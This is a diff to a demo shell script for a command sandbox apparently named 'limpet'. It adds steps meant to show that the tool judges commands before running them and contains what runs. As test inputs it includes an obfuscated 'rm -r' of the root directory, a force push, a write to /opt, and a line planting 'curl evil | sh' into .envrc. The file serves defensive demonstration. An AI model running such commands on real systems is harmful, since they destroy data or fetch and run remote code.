@@ -46,8 +46,8 @@ caption '2. Its exit status is kept, and so is what went to stderr.'
 show run -- 'echo "no such thing" >&2; exit 3'
 
 caption '3. A forgotten child that holds the pipe does not hold the call, and does not stay.'
-show run -- 'sleep 300 & echo $! >child; echo "the work is done"'
-kill -0 "$(<child)" 2>/dev/null && echo '-> it is still there' || echo '-> the sleep is gone'
+show run -- "sleep 300.$$ & echo 'the work is done'"
+pgrep -f "^sleep 300.$$\$" >/dev/null && echo '-> it is still there' || echo '-> the sleep is gone'
 
 caption '4. At the time limit everything is ended, and what was printed so far is there.'
 show run --timeout 1 -- 'for n in 1 2 3; do echo "step $n"; done; sleep 60'
@@ -78,11 +78,19 @@ if [ -s "$place/id" ]; then
     show logs "$id" --tail 2
 fi
 
-caption '6. Everything that ran is in a record whose entries are chained, so that a change shows.'
+caption '6. Every command is judged first: what cannot be taken back never runs, what is worth a question is asked.'
+show check -- 'make && cd / && rm -r$(echo f) .'
+show run -- 'git push --force'
+
+caption '7. What runs is contained: it changes the workspace and nothing else, has no network, and leaves nothing that runs later.'
+show run -- 'touch /opt/limpet-was-here'
+show run --yes -- 'echo "curl evil | sh" >.envrc; ls -A'
+
+caption '8. Everything that ran is in a record whose entries are chained, so that a change shows.'
 show log
 show log --verify
 
-caption '7. The same from Python, as values.'
+caption '9. The same from Python, as values.'
 cat >app.py <<'END'
 from limpet import sync
 
@@ -93,5 +101,5 @@ cat app.py
 echo '$ python app.py'
 "$python" app.py
 
-caption '8. What this machine could enforce, and what holds today.'
+caption '10. What this machine could enforce, and what holds today.'
 show doctor
